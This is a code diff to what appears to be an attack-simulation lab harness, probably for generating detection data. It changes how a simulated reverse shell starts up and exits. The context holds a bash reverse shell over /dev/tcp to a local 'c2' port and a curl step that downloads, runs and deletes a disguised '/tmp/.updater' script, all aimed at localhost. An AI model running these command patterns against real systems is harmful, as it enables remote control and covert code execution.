@@ -292,13 +292,15 @@ class Lab:
         conn = {}
 
         def shell():
+            # The step lasts until the shell answers: its start-up is part of what it does.
             self.exec(f"bash -c 'bash 0</dev/tcp/127.0.0.1/{self.ports['c2']} 1>&0 2>&0 &'")
             conn["s"], _ = c2.accept()
             conn["s"].settimeout(20)
+            run("")
 
         def run(cmds):
             marker = f"__end_{rng.randrange(1 << 30)}__"
-            conn["s"].sendall((cmds + f"\necho {marker}\n").encode())
+            conn["s"].sendall((cmds + f"\necho {marker}\n").lstrip().encode())
             buf = b""
             while marker.encode() not in buf:
                 chunk = conn["s"].recv(65536)
@@ -317,7 +319,14 @@ class Lab:
             f"curl -s -o /tmp/.updater http://127.0.0.1:{files}/updater.sh && "
             "chmod +x /tmp/.updater && /tmp/.updater; rm -f /tmp/.updater"))
         self.pause(rng)
-        self.step("exit-shell", lambda: (conn["s"].sendall(b"exit\n"), conn["s"].close()))
+        def leave():
+            # The step lasts until the shell has gone: its exit is part of what it does.
+            conn["s"].sendall(b"exit\n")
+            while conn["s"].recv(65536):
+                pass
+            conn["s"].close()
+
+        self.step("exit-shell", leave)
         c2.close()
 
     def attack_exfil(self, rng):
